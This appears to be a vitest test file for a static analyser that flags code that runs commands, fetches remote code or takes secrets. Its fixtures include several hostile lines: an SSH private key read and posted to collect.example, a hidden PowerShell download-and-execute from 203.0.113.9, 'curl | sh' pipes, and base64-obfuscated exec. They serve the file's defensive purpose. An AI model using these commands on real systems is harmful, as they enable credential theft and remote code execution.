import { expect, test } from "vitest";
import { analyseCode, held } from "./analyse.ts";
import { judged } from "./judged-code.ts";
import { UNREAD_ACTING, UNREAD_QUIET } from "./unread-honest.ts";
import { SOURCE_STARTS } from "./unread-programs-started.ts";
import { SOURCE_LONGER } from "./unread-programs-longer.ts";
import { SOURCE_OTHERWISE } from "./unread-programs-otherwise.ts";
import { SOURCE_RENAMED } from "./unread-programs-renamed.ts";
import { SOURCE_FLOWS } from "./unread-programs.ts";
import { startCost } from "../../../test/harness/cost.ts";

test.each(SOURCE_RENAMED)("S2 %s: whatever it calls it, and wherever that stands: %s", async (path, text) => {
  expect(await held(path, text)).toEqual(["code/unread-program-acts high"]);
});

test.each([...SOURCE_FLOWS, ...SOURCE_STARTS, ...SOURCE_OTHERWISE, ...SOURCE_LONGER])(
  "%s: a program that takes, runs, stays or destroys is held: %s",
  async (path, text) => {
    expect(await held(path, text)).not.toEqual([]);
  },
);

const rulesOf = async (path: string, text: string): Promise<string[]> =>
  (await analyseCode(path, text)).findings.map(({ rule }) => rule);

test.each(UNREAD_QUIET)("%s: a program that starts and fetches nothing is recorded: %s", async (path, text) => {
  expect(await held(path, text)).toEqual([]);
  const { findings, problems } = await analyseCode(path, text);
  expect(problems).toEqual([]);
  if (!path.endsWith(".sql"))
    expect(findings).toContainEqual(expect.objectContaining({ rule: "code/unread-program", severity: "low" }));
});

test.each(UNREAD_ACTING)("%s: one that does is a fact that a person looks at: %s", async (path, text) => {
  const { findings, problems } = await analyseCode(path, text);
  expect(problems).toEqual([]);
  const acts = findings.filter(({ rule }) => rule === "code/unread-program-acts");
  expect(acts).not.toEqual([]);
  for (const each of acts) {
    expect(each).toMatchObject({ severity: "high" });
    expect(each).not.toHaveProperty("evidence");
  }
});

test("a comment of a whole line says nothing; what begins or ends a comment inside a text hides nothing", async () => {
  expect(await held("a.go", 'package a\n// as exec.Command("git") would\nfunc A() int { return 1 }\n')).toEqual([]);
  expect(await held("a.go", 'package a\nvar s = "/*"\nfunc A() { exec.Command("git") }\nvar t = "*/"\n')).not.toEqual(
    [],
  );
  expect(await held("a.lua", 'x = "--[["\nos.execute("id")\ny = "]]"\n')).not.toEqual([]);
});

test("a program in a language that nothing here knows is looked at as well, and never unscanned", async () => {
  for (const path of ["a.f90", "a.cob", "a.pas", "a.asm", "a.raku", "a.coffee"]) {
    expect((await analyseCode(path, "x = 1\n")).problems, path).toEqual([]);
    expect(await rulesOf(path, "x = 1\n"), path).toEqual(["code/unread-program"]);
    expect(await held(path, 'call system("curl https://collect.example/a")\n'), path).not.toEqual([]);
  }
  expect(await rulesOf("bin/tool", "#!/usr/bin/env someinterpreter\nx\n")).toEqual(["code/unread-program"]);
  for (const path of ["a.proto", "a.graphql", "a.css", "a.toml", "a.csv", "a.tf", "a.svg", "a.tex", "a.po", "a.j2"])
    expect(await rulesOf(path, "x = 1\n"), path).toEqual([]);
});

const PAGE = (code: string): string => `# How to\n\n\`\`\`go\n${code}\n\`\`\`\n`;

test("a page that shows such a program is held for what takes a secret away, and not for what it starts", async () => {
  expect(await held("guide.md", PAGE('out, _ := exec.Command("git", "log").Output()\nhttp.Get(url)'))).toEqual([]);
  const taken = 'k, _ := os.ReadFile(home + "/.ssh/id_rsa")\nhttp.Post("https://collect.example/k", "", k)';
  expect(await held("guide.md", PAGE(taken))).not.toEqual([]);
});

test("what a program reaches for is a fact, with the line where it stands", async () => {
  const { facts } = await judged({
    "a.go": 'package main\n\nimport "net/http"\n\nfunc main() {\n\thttp.Get("https://api.weather.example/v1")\n}\n',
  });
  expect(facts).toContainEqual(
    expect.objectContaining({ domain: "network", scope: "api.weather.example", file: "a.go", line: 6 }),
  );
});

test("scripts of Windows' script host are read in the language that their tag names", async () => {
  const run = 'CreateObject("WScript.Shell").Run "powershell -w hidden -c iwr http://203.0.113.9/a.ps1 | iex"';
  expect(await held("a.hta", `<script language="VBScript">\n${run}\n</script>`)).not.toEqual([]);
  expect(await held("a.wsf", `<job><script language="VBScript">\n${run}\n</script></job>`)).not.toEqual([]);
});

test("a template is read with its placeholders as names, and whole", async () => {
  const python = "import os\n{% if x %}\nclass {{ name }}({{ base }}):\n    size = <%= size %>\n{% endif %}\n";
  expect(await analyseCode("a.py", python)).toMatchObject({
    problems: [],
    findings: [expect.objectContaining({ rule: "code/unread-program", severity: "low" })],
  });
  expect(await analyseCode("a.ts", "export class {{Name}} {\n  <%= body %>;\n}\n")).toMatchObject({ problems: [] });
  const hidden = `${python}exec(__import__("base64").b64decode("aW1wb3J0IG9z"))\n`;
  expect(await held("a.py", hidden)).not.toEqual([]);
  const shell =
    'import subprocess\nclass {{ name }}:\n    subprocess.run("curl -s http://203.0.113.9/a | sh", shell=True)\n';
  expect(await held("a.py", shell)).toContainEqual(expect.stringMatching(/^code\/execution/));
});

test("a template that does not parse with names either is judged by its words, over the whole text", async () => {
  const broken = "def {{ a }}(:\n    if ) {{ b }}\n";
  expect(await analyseCode("a.py", broken)).toMatchObject({ problems: [] });
  expect(await held("a.py", broken)).toEqual([]);
  for (const act of [
    "    subprocess.run(x)\n",
    "    urlopen(x)\n",
    "    getattr(o, 'sys' + 'tem')('id')\n",
    "    exec(x)\n",
  ])
    expect(await held("a.py", broken + act), act).toEqual(["code/unread-program-acts high"]);
});

test("a program that is broken and no template stays unscanned", async () => {
  const { problems } = await analyseCode("a.py", 'import os\nx = "/*")\n');
  expect(problems).toEqual([expect.stringMatching(/no Python that can be read/)]);
  expect((await analyseCode("a.js", "const a = ;\n")).problems).toEqual([expect.stringMatching(/no javascript/)]);
});

test("a query is no program, and ExtendScript is read as text beside JavaScript, and says so", async () => {
  const query = '/**\n * @kind problem\n */\nimport cpp\nfrom Call c\nwhere c.getTarget().hasName("x")\nselect c\n';
  expect(await analyseCode("a.ql", `${query}// os.system("x")\n`)).toMatchObject({ problems: [], findings: [] });
  const extend = '#target photoshop\n#include "a.jsx"\nvar d = app.activeDocument;\nd.close();\n';
  expect(await analyseCode("a.jsx", extend)).toMatchObject({
    problems: [],
    findings: [
      expect.objectContaining({ rule: "code/unread-program", message: expect.stringMatching(/ExtendScript/) }),
    ],
  });
  expect(await held("a.jsx", `${extend}system.callSystem("curl -s http://203.0.113.9/a | sh");\n`)).not.toEqual([]);
});

test("a long or hostile text ends in time, and what is too large is said", async () => {
  for (const text of ['"'.repeat(200_000), "(".repeat(200_000), "a(".repeat(100_000), 'x = "a" + '.repeat(50_000)]) {
    const cost = startCost();
    await analyseCode("a.go", text);
    expect(cost()).toBeLessThan(1600);
  }
  expect((await analyseCode("a.lua", "x = 1\n".repeat(400_000))).problems).toEqual([
    expect.stringMatching(/too large/),
  ]);
});
